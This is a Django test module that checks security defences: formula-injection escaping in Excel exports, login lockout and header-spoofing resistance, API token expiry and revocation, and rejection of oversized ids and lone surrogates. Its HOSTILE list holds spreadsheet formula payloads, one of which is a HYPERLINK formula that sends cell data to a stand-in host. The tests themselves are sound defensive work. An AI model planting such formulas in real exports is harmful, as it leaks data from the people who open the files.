"""Security: formula cells in every export, login throttling, API tokens (expiry, revocation, password
change), values that used to be 500s (huge ids, lone surrogates) and Chinese 422s.

The module prints one summary line of what it checked (issue 11: "it prints its counts"); every
count of formula cells, 5xx answers and open locks it reports must be 0 for the tests to pass.
Other helpers' security modules hold the scope matrix, hostile files and concurrency tests.
"""

from __future__ import annotations

import json
import re
from collections import Counter
from io import BytesIO

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from jijuqu.conftest import show
from jijuqu.core.export import FORMULA_START, set_cell

pytestmark = pytest.mark.django_db

COUNTS: Counter = Counter()

# What a hostile user types into a name: a formula that would run in the reader's Excel.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "=1+1",
]


@pytest.fixture(scope="module", autouse=True)
def summary(request):
    yield
    line = (
        "security: {workbooks} workbooks with {text_cells} hostile text cells checked, {formula_cells} formula cells; "
        "{login_attempts} wrong passwords, {locked} locked; {token_checks} token checks; "
        "{requests} hostile requests, {server_errors} server errors".format_map(
            {
                k: COUNTS[k]
                for k in (
                    "workbooks",
                    "text_cells",
                    "formula_cells",
                    "login_attempts",
                    "locked",
                    "token_checks",
                    "requests",
                    "server_errors",
                )
            }
        )
    )
    show(request.config, line)


# ---------------------------------------------------------------------------------------------------
# Formula injection: text is written as text in every workbook we produce


def assert_no_formulas(content: bytes, expected: list[str]) -> None:
    """No cell of any sheet is a formula, and each hostile text is there as text, unchanged, both
    for openpyxl and for the importer's reader (python-calamine), so the export imports back."""
    COUNTS["workbooks"] += 1
    wb = load_workbook(BytesIO(content))
    texts = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    COUNTS["formula_cells"] += 1
                if isinstance(cell.value, str):
                    texts[cell.value] = cell
    assert COUNTS["formula_cells"] == 0
    calamine = CalamineWorkbook.from_filelike(BytesIO(content))
    read_back = {
        v
        for name in calamine.sheet_names
        for row in calamine.get_sheet_by_name(name).to_python()
        for v in row
        if isinstance(v, str)
    }
    for text in expected:
        found = [t for t in texts if text in t]
        assert found, f"{text!r} missing from the workbook"
        for t in found:
            COUNTS["text_cells"] += 1
            assert texts[t].data_type == "s"
            assert texts[t].quotePrefix == t.startswith(FORMULA_START)
        assert any(text in v for v in read_back), f"{text!r} does not read back"


def test_set_cell_keeps_text_as_text_and_numbers_as_numbers():
    from openpyxl import Workbook

    ws = Workbook().active
    assert set_cell(ws["A1"], "=1+1").data_type == "s" and ws["A1"].value == "=1+1"
    assert ws["A1"].quotePrefix
    assert set_cell(ws["A2"], "#N/A").data_type == "s"  # not an error cell either
    assert set_cell(ws["A3"], "沁阳").quotePrefix is False
    assert set_cell(ws["A4"], 12).data_type == "n"
    # Control characters the format cannot hold are dropped instead of failing the export.
    assert set_cell(ws["A5"], "甲\x01乙").value == "甲乙"


def test_list_exports_write_hostile_names_as_text(login, world):
    from jijuqu.enterprises.models import Enterprise
    from jijuqu.projects.testing import make_project, report

    Enterprise.objects.filter(pk=world.enterprise_a.pk).update(name=HOSTILE[0])
    for i, name in enumerate(HOSTILE[1:]):
        report(make_project(world.zone_a, name, plan="100.00", code=f"F{i}"), 2024, 10, "1.00")
    client = login("province")
    assert_no_formulas(client.get("/enterprises/", {"export": "xlsx"}).content, HOSTILE[:1])
    assert_no_formulas(client.get("/projects/", {"period": "2024-10", "export": "xlsx"}).content, HOSTILE[1:])
    assert_no_formulas(client.get("/progress/", {"export": "xlsx"}).content, HOSTILE[1:])


def test_monthly_report_tables_write_hostile_names_as_text(world):
    from jijuqu.projects.analysis import Period
    from jijuqu.projects.testing import make_project, report
    from jijuqu.reports.builder import Area, build
    from jijuqu.reports.workbook import report_xlsx

    # Behind plan, so the names are in the lagging table too; the leader's name reaches 附表.
    for i, name in enumerate(HOSTILE):
        project = make_project(world.zone_a, name, total="1000.00", plan="1000.00", code=f"R{i}")
        report(project, 2024, 10, "1.00")
    world.zone_a.name = "=沁阳"
    world.zone_a.save()
    content = report_xlsx(build(Area.of(world.jiaozuo), Period(2024, 10)))
    assert_no_formulas(content, [*HOSTILE, "=沁阳"])


def test_error_workbook_writes_messages_as_text():
    from openpyxl import Workbook

    from jijuqu.imports.report import error_workbook

    wb = Workbook()
    wb.active.title = "台账"
    wb.active.append(["项目名称"])
    wb.active.append(["x"])
    source = BytesIO()
    wb.save(source)
    source.seek(0)
    errors = [{"sheet": "台账", "row": 2, "column": "", "message": HOSTILE[0]}]
    assert_no_formulas(error_workbook(source, errors), HOSTILE[:1])


def test_error_list_of_an_unrewritable_file_writes_the_typed_values_as_text():
    from jijuqu.imports.report import error_list_workbook

    errors = [
        {"sheet": "台账", "row": 2 + i, "column": "项目名称", "value": text, "message": "项目名称重复"}
        for i, text in enumerate(HOSTILE)
    ]
    assert_no_formulas(error_list_workbook(errors), HOSTILE)


def test_assessment_ranking_export_writes_hostile_names_as_text(world):
    from jijuqu.assessment.ranking import rank
    from jijuqu.assessment.testing import make_framework
    from jijuqu.assessment.workbook import ranking_xlsx

    framework = make_framework(world)
    framework.name = "=考核"
    framework.save()
    framework.groups.filter(name="经济总量").update(name="+经济")
    world.zone_b.name = HOSTILE[0]
    world.zone_b.save()
    content = ranking_xlsx(rank(framework, "2024"), world.user("admin"))
    assert_no_formulas(content, ["=考核", "+经济", HOSTILE[0]])


# ---------------------------------------------------------------------------------------------------
# Login throttling (django-axes): a user name from one address is locked after N wrong passwords


def wrong_password(client, username="zone_a", password="wrong-password", **extra):
    COUNTS["login_attempts"] += 1
    return client.post("/login/", {"username": username, "password": password}, **extra)


def test_wrong_passwords_lock_the_user_from_that_address_with_a_chinese_message(client, world, settings):
    from jijuqu.core.testing import PASSWORD

    limit = settings.AXES_FAILURE_LIMIT
    for _ in range(limit - 1):
        response = wrong_password(client)
        assert response.status_code == 200 and "用户名或密码错误" in response.content.decode()
    response = wrong_password(client)
    COUNTS["locked"] += response.status_code == 429
    html = response.content.decode()
    assert response.status_code == 429
    assert "登录失败次数过多" in html and f"密码连续输错{limit}次" in html and "zone_a" in html
    # Locked means locked: the right password is refused too, and nobody is logged in.
    response = client.post("/login/", {"username": "zone_a", "password": PASSWORD})
    assert response.status_code == 429 and "_auth_user_id" not in client.session
    # Another user from this address, and this user from another address, still log in.
    assert client.post("/login/", {"username": "zone_b", "password": PASSWORD}).status_code == 302
    other = client.__class__()
    response = other.post("/login/", {"username": "zone_a", "password": PASSWORD}, REMOTE_ADDR="10.9.8.7")
    assert response.status_code == 302


def test_a_forwarded_for_header_does_not_unlock(client, world, settings):
    from jijuqu.core.testing import PASSWORD

    for i in range(settings.AXES_FAILURE_LIMIT):
        wrong_password(client, HTTP_X_FORWARDED_FOR=f"203.0.113.{i}")
    response = client.post(
        "/login/", {"username": "zone_a", "password": PASSWORD}, HTTP_X_FORWARDED_FOR="1.2.3.4"
    )
    assert response.status_code == 429


def test_behind_a_trusted_proxy_each_client_address_is_locked_on_its_own(client, world, settings):
    """Behind nginx every request comes from 127.0.0.1: the address nginx appended to X-Forwarded-For
    is the one locked, so a guesser does not lock the user name for the whole office."""
    from jijuqu.core.testing import PASSWORD

    settings.JIJUQU_TRUSTED_PROXIES = ["127.0.0.1"]
    for _ in range(settings.AXES_FAILURE_LIMIT):
        wrong_password(client, HTTP_X_FORWARDED_FOR="203.0.113.5")
    forged_then_real = "198.51.100.7, 203.0.113.5"  # the guesser's own header, then what nginx saw
    login = {"username": "zone_a", "password": PASSWORD}
    assert client.post("/login/", login, HTTP_X_FORWARDED_FOR=forged_then_real).status_code == 429
    colleague = client.__class__()
    assert colleague.post("/login/", login, HTTP_X_FORWARDED_FOR="198.51.100.7").status_code == 302
    # A sender that is not a trusted proxy cannot choose its address with the header.
    outsider = client.__class__()
    for _ in range(settings.AXES_FAILURE_LIMIT):
        wrong_password(outsider, username="zone_b", REMOTE_ADDR="10.9.8.7", HTTP_X_FORWARDED_FOR="1.1.1.1")
    response = outsider.post(
        "/login/",
        {"username": "zone_b", "password": PASSWORD},
        REMOTE_ADDR="10.9.8.7",
        HTTP_X_FORWARDED_FOR="2.2.2.2",
    )
    assert response.status_code == 429


def test_the_lock_ends_after_the_cool_off(client, world, settings):
    from axes.models import AccessAttempt
    from django.utils import timezone

    from jijuqu.core.testing import PASSWORD

    for _ in range(settings.AXES_FAILURE_LIMIT):
        wrong_password(client)
    AccessAttempt.objects.update(attempt_time=timezone.now() - settings.AXES_COOLOFF_TIME * 2)
    assert client.post("/login/", {"username": "zone_a", "password": PASSWORD}).status_code == 302


def test_a_good_login_resets_the_count(client, world, settings):
    from jijuqu.core.testing import PASSWORD

    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        wrong_password(client)
    assert client.post("/login/", {"username": "zone_a", "password": PASSWORD}).status_code == 302
    client.post("/logout/")
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert wrong_password(client).status_code == 200


# ---------------------------------------------------------------------------------------------------
# API tokens: expiry, listing and revocation by the owner, revocation on a password change


def api_status(client, token: str) -> int:
    COUNTS["token_checks"] += 1
    return client.get("/api/zones/", HTTP_AUTHORIZATION=f"Bearer {token}").status_code


def test_tokens_expire_by_default_after_the_configured_days(client, world, settings):
    import datetime as dt

    from django.utils import timezone

    from jijuqu.core.models import ApiToken
    from jijuqu.core.tokens import create_token

    token = create_token(world.user("zone_a"), "feed")
    row = ApiToken.objects.get()
    expected = timezone.now() + dt.timedelta(days=settings.JIJUQU_TOKEN_DAYS)
    assert abs(row.expires - expected) < dt.timedelta(minutes=1)
    assert api_status(client, token) == 200
    ApiToken.objects.update(expires=timezone.now() - dt.timedelta(seconds=1))
    response = client.get("/api/zones/", HTTP_AUTHORIZATION=f"Bearer {token}")
    COUNTS["token_checks"] += 1
    assert response.status_code == 401 and "令牌" in response.json()["detail"]


def test_create_token_command_takes_days_and_refuses_nonsense(world):
    import datetime as dt
    from io import StringIO

    from django.core.management import CommandError, call_command
    from django.utils import timezone

    from jijuqu.core.models import ApiToken

    out = StringIO()
    call_command("create_token", "zone_a", "--days", "7", stdout=out)
    assert out.getvalue().startswith("jjq_")
    row = ApiToken.objects.get()
    assert abs(row.expires - (timezone.now() + dt.timedelta(days=7))) < dt.timedelta(minutes=1)
    for days in ("0", "-3", "99999"):
        with pytest.raises(CommandError, match="--days"):
            call_command("create_token", "zone_a", "--days", days, stdout=StringIO())


def test_owner_creates_lists_and_revokes_tokens_on_the_token_page(client, login, world):
    from jijuqu.core.models import ApiToken
    from jijuqu.core.tokens import create_token

    others = create_token(world.user("zone_b"), "别人的令牌")
    client = login("zone_a")
    response = client.post("/tokens/", {"name": "统计局数据接口", "days": "30"})
    html = response.content.decode()
    token = re.search(r"jjq_[\w-]+", html).group(0)
    assert "请立即复制保存" in html and response["Cache-Control"] == "no-store"
    assert api_status(client.__class__(), token) == 200
    listing = client.get("/tokens/").content.decode()
    assert "统计局数据接口" in listing and token not in listing  # shown once only
    assert "别人的令牌" not in listing
    mine = ApiToken.objects.get(user=world.user("zone_a"))
    # Nobody revokes another user's token, even by guessing its id.
    theirs = ApiToken.objects.get(user=world.user("zone_b"))
    response = client.post(f"/tokens/{theirs.pk}/revoke/", follow=True)
    assert "没有找到您的这个令牌" in response.content.decode()
    assert api_status(client.__class__(), others) == 200
    response = client.post(f"/tokens/{mine.pk}/revoke/", follow=True)
    assert "令牌已撤销" in response.content.decode()
    assert api_status(client.__class__(), token) == 401
    assert client.get(f"/tokens/{mine.pk}/revoke/").status_code == 405


def test_token_form_refuses_bad_days_in_chinese(login, world):
    from jijuqu.core.models import ApiToken

    html = login("zone_a").post("/tokens/", {"name": "x", "days": "100000"}).content.decode()
    assert "有效天数" in html and "jjq_" not in html and not ApiToken.objects.exists()


def test_changing_the_password_revokes_every_token_and_keeps_the_session(client, login, world):
    from jijuqu.core.testing import PASSWORD
    from jijuqu.core.tokens import create_token

    tokens = [create_token(world.user("zone_a"), f"t{i}") for i in range(2)]
    survivor = create_token(world.user("zone_b"), "other user")
    client = login("zone_a")
    page = client.get("/password/").content.decode()
    assert "修改密码" in page and "旧密码" in page
    response = client.post(
        "/password/",
        {"old_password": PASSWORD, "new_password1": "Qinyang-2026-new", "new_password2": "Qinyang-2026-new"},
        follow=True,
    )
    assert "密码已修改" in response.content.decode() and "接口令牌已全部撤销" in response.content.decode()
    assert client.get("/").status_code == 200  # still logged in
    for token in tokens:
        assert api_status(client.__class__(), token) == 401
    assert api_status(client.__class__(), survivor) == 200


def test_a_wrong_old_password_changes_nothing(client, login, world):
    from jijuqu.core.tokens import create_token

    token = create_token(world.user("zone_a"), "t")
    client = login("zone_a")
    response = client.post(
        "/password/",
        {"old_password": "nope", "new_password1": "Abcdef-12345", "new_password2": "Abcdef-12345"},
    )
    assert response.status_code == 200 and "密码未修改" in response.content.decode()
    assert api_status(client.__class__(), token) == 200


def test_an_admin_reset_revokes_tokens_but_a_hash_upgrade_on_login_does_not(client, world):
    from django.contrib.auth.hashers import make_password

    from jijuqu.core.testing import PASSWORD
    from jijuqu.core.tokens import create_token

    user = world.user("zone_a")
    token = create_token(user, "t")
    # A login that re-hashes the same password (here: a salt too short for today's hasher) keeps them.
    old_hash = make_password(PASSWORD, salt="ab", hasher="md5")
    type(user).objects.filter(pk=user.pk).update(password=old_hash)
    assert client.post("/login/", {"username": "zone_a", "password": PASSWORD}).status_code == 302
    user.refresh_from_db()
    assert user.password != old_hash
    assert api_status(client.__class__(), token) == 200
    # An administrator setting a new password (admin page, changepassword) revokes them.
    user.set_password("Another-pass-2026")
    user.save()
    assert api_status(client.__class__(), token) == 401


# ---------------------------------------------------------------------------------------------------
# Values that were 500s: ids, limit and offset beyond 2^63, lone surrogates; 422s in Chinese

BIG = [2**63, 2**64, 10**30, -(2**63) - 1]


def operations():
    from jijuqu.api import api

    schema = api.get_openapi_schema()
    for path, methods in schema["paths"].items():
        for method, op in methods.items():
            yield path, method, op


def hostile(client, method: str, url: str, headers: dict, body: bytes | None = None):
    COUNTS["requests"] += 1
    response = (
        getattr(client, method)(url, body, content_type="application/json", **headers)
        if body
        else (getattr(client, method)(url, **headers))
    )
    COUNTS["server_errors"] += response.status_code >= 500
    assert response.status_code < 500, (method, url, body, response.content[:300])
    return response


@pytest.fixture
def province(world):
    from jijuqu.core.tokens import create_token

    return {"HTTP_AUTHORIZATION": f"Bearer {create_token(world.user('province'), 'fuzz')}"}


def test_huge_ids_in_paths_are_404_or_422_never_500(client, world, province):
    for path, method, op in operations():
        names = [p["name"] for p in op.get("parameters", []) if p["in"] == "path"]
        if not names:
            continue
        for big in BIG:
            url = path
            for name in names:
                url = url.replace("{" + name + "}", str(big))
            body = b"{}" if method in ("post", "patch", "put") else None
            response = hostile(client, method, url, province, body)
            assert response.status_code in (404, 422), (method, url, response.status_code)


def test_huge_query_numbers_are_422_in_chinese_naming_the_field(client, world, province):
    for path, method, op in operations():
        if method != "get" or "{" in path:
            continue
        for param in op.get("parameters", []):
            if param["in"] != "query":
                continue
            for big in BIG:
                response = hostile(client, "get", f"{path}?{param['name']}={big}", province)
                if param["name"] in ("limit", "offset"):
                    assert response.status_code == 422
                    message = response.json()["errors"][param["name"]][0]
                    assert message.startswith(f"{param['name']}：") and ("不能" in message)


def test_api_validation_errors_are_chinese_and_name_the_field(client, world, province):
    response = hostile(client, "get", "/api/zones/?limit=abc&offset=-1", province)
    assert response.status_code == 422
    body = response.json()
    assert body["detail"] == "未保存任何内容。"
    assert body["errors"] == {"limit": ["limit：输入整数。"], "offset": ["offset：不能小于0。"]}
    payload = json.dumps({"planned_start": "2024-13-01", "zone": "x", "name": 5}).encode()
    response = hostile(client, "post", "/api/projects/", province, payload)
    errors = response.json()["errors"]
    assert errors["planned_start"] == ["planned_start：请输入有效日期（YYYY-MM-DD）。"]
    assert errors["zone"] == ["zone：输入整数。"] and errors["name"] == ["name：请输入文本。"]
    response = hostile(client, "patch", f"/api/zones/{world.zone_a.pk}/", province, b"{not json")
    assert response.status_code == 400 and response.json()["detail"] == "请求内容不是有效的 JSON。"
    assert hostile(client, "get", "/api/zones/", {}).json()["detail"].startswith("请先登录")
    assert (
        hostile(client, "get", "/api/zones/99999999/", province).json()["detail"]
        == "记录不存在，或不在您的数据范围内。"
    )


def test_a_lone_surrogate_in_a_json_body_is_422_and_saves_nothing(client, world, province):
    from jijuqu.enterprises.models import Enterprise

    before = Enterprise.objects.get(pk=world.enterprise_a.pk).name
    for body in (
        b'{"name": "\\ud800"}',
        b'{"name": "ok", "phone": "x\\udfff"}',
        b'{"\\ud800": 1, "name": "\\ud800"}',
    ):
        response = hostile(client, "patch", f"/api/enterprises/{world.enterprise_a.pk}/", province, body)
        assert response.status_code == 422
        field, messages = next(iter(response.json()["errors"].items()))
        assert field in ("name", "phone") and "无效的 Unicode 字符" in messages[0]
    assert Enterprise.objects.get(pk=world.enterprise_a.pk).name == before
    # A proper surrogate pair is one character and is kept.
    response = hostile(
        client,
        "patch",
        f"/api/enterprises/{world.enterprise_a.pk}/",
        province,
        b'{"contact": "\\ud83d\\ude00"}',
    )
    assert response.status_code == 200 and Enterprise.objects.get(pk=world.enterprise_a.pk).contact == "😀"


def test_server_side_authenticate_without_a_request_still_works(client, world):
    # Django's test client and scripts call authenticate() without a request; axes alone would raise.
    from jijuqu.core.testing import PASSWORD

    assert client.login(username="zone_a", password=PASSWORD)
    assert not client.login(username="zone_a", password="wrong")


def test_huge_numbers_in_page_urls_are_never_a_server_error(client, login, world):
    from django.urls import reverse

    from jijuqu.core.navigation import MENU

    client = login("province")
    big = str(2**64)
    for _group, items in MENU:
        for item in items:
            url = reverse(item.url_name)
            for name in (
                "page",
                "zone",
                "region",
                "project",
                "year",
                "month",
                "period",
                "framework",
                "per_page",
            ):
                COUNTS["requests"] += 1
                status = client.get(url, {name: big}).status_code
                COUNTS["server_errors"] += status >= 500
                assert status < 500, (url, name)
            for suffix in ("", "edit/", "history/", "delete/"):
                COUNTS["requests"] += 1
                status = client.get(f"{url}{big}/{suffix}").status_code
                COUNTS["server_errors"] += status >= 500
                assert status in (301, 302, 403, 404), (url, suffix, status)


def test_huge_ids_in_a_json_body_are_422(client, world, province):
    body = json.dumps({"indicator": 2**64, "zone": world.zone_a.pk, "period": "2024", "value": "1"}).encode()
    response = hostile(client, "post", "/api/assessment/values/", province, body)
    assert response.status_code == 422 and response.json()["errors"]["indicator"][0].startswith(
        "indicator：不能大于"
    )
